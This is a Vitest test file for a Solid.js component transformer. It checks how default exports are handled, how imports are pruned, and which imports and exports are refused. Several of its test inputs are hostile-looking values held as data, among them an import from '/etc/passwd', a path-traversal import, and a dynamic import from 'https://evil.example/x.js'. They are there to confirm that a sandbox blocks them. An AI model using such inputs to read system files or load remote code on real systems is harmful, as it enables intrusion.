import fs from "node:fs";
import { expect, test, vi } from "vitest";
import { transformComponent } from "#lib/compilation/transform-component";
import { codeOf } from "./support/code-of";
import { findingsOf } from "./support/findings";

const codesOf = async (source: string): Promise<string[]> =>
  (await findingsOf(() => transformComponent(source))).map(({ code }) => code);

test.each([
  ["a function", "export default function App() { return <p>x</p>; }"],
  ["a function without a name", "export default function () { return <p>x</p>; }"],
  ["an arrow", "export default () => <p>x</p>;"],
  ["a name", "const Tool = () => <p>x</p>; export default Tool;"],
  ["an export list", "function Tool() { return <p>x</p>; } export { Tool as default };"],
  ["a cast", "const Tool = () => <p>x</p>; export default Tool as () => unknown;"],
  ["a class", "export default class App { render() { return <p>x</p>; } }"],
  ["a name that is taken", "const _App = 1; export default () => <p>{_App}</p>;"],
])("%s is a default export", (_, source) => {
  const code = codeOf(source);
  expect(code).toMatch(/^import\{/);
  const [, name = "?"] = /export\{(\$\w) as default\};$/.exec(code) ?? [];
  expect(code).toMatch(new RegExp(`(?:function|const|class) \\${name}\\b`));
});

test("an import that only a directive needs is kept", () => {
  const code = codeOf(`import { createEffect as focus } from "solid-js"; export default () => <input use:focus={true} />;`);
  const [, focus = "?", use = "?"] = /createEffect as (\$\w),.*use as (\$\w)/.exec(code) ?? [];
  expect(code).toContain(`${use}(${focus},`);
});

test("types imported as values, and values nobody uses, are not imported", () => {
  const code = codeOf(
    `import { Accessor, batch, type Setter, createSignal } from "solid-js"; import type { Store } from "solid-js/store";
     export default function App() { const [n]: [Accessor<number>, Setter<number>] = createSignal(0); const s = { Store: 1 } as Store<object>; return <p>{n()}{s}</p>; }`,
  );
  expect(code).toContain("createSignal");
  expect(code).not.toMatch(/Accessor|Setter|batch/);
  expect(code.match(/import\s*\{/g)).toHaveLength(1);
});

test("control flow works without being imported", () => {
  expect(codeOf(`export default () => <For each={[1]}>{(n) => <b>{n}</b>}</For>;`)).toMatch(/For as \$\w/);
});

test.each([
  `import fs from "node:fs"; export default () => <p>{fs}</p>;`,
  `import { readFile } from "/etc/passwd"; export default () => <p>{readFile}</p>;`,
  `import "../../../package.json"; export default () => <p>x</p>;`,
  `import { render } from "solid-js/web"; export default () => <p>{render}</p>;`,
  `import * as solid from "solid-js"; export default () => <p>{solid}</p>;`,
  `import solid from "solid-js"; export default () => <p>{solid}</p>;`,
  `export default () => <p onClick={() => import("https://evil.example/x.js")}>x</p>;`,
  `export default () => <p>{import.meta.url}</p>;`,
  `import { lazy } from "solid-js"; export default () => <p>{lazy}</p>;`,
  `export default () => <Portal><p>x</p></Portal>;`,
])("what would import anything but the runtime is refused: %s", async (source) => {
  expect(await codesOf(source)).toEqual(["import_not_allowed"]);
});

test.each([
  `export * from "solid-js"; export default () => <p>x</p>;`,
  `export { For } from "solid-js"; export default () => <p>x</p>;`,
  `export const then = 1; export default () => <p>x</p>;`,
  `import x = require("fs"); export default () => <p>{x}</p>;`,
])("what would export anything but the app is refused: %s", async (source) => {
  expect(await codesOf(source)).toEqual(["module_syntax"]);
});

test("a file that a comment names is not read", () => {
  const read = vi.spyOn(fs, "readFileSync");
  transformComponent("export default () => <p>x</p>;\n//# sourceMappingURL=package.json");
  expect(read).not.toHaveBeenCalled();
  read.mockRestore();
});

test("a component without a default export is refused", async () => {
  expect(await codesOf("const App = () => <p>x</p>;")).toEqual(["no_default_export"]);
});

test("a syntax error is a finding at its place", async () => {
  const [finding] = await findingsOf(() => transformComponent("export default () => (\n  <p>x</b>\n);"));
  expect(finding).toMatchObject({ code: "syntax_error", line: 2, column: 7 });
  expect(finding?.message).not.toMatch(/component\.tsx|\n/);
});

test("malformed nesting is a finding at its place, with a way out", async () => {
  const findings = await findingsOf(() => transformComponent("export default () => (\n  <p>\n    <div>x</div>\n  </p>\n);"));
  expect(findings).toMatchObject([{ code: "malformed_nesting", line: 3, column: 5 }]);
  expect(findings[0]?.hint).toContain("<span>");
});

test("what an expression puts there is not nesting: the browser does not parse it", () => {
  expect(() =>
    transformComponent("export default () => <p>{<div>x</div>}<Card><div>y</div></Card></p>; const Card = (p) => p.children;"),
  ).not.toThrow();
});
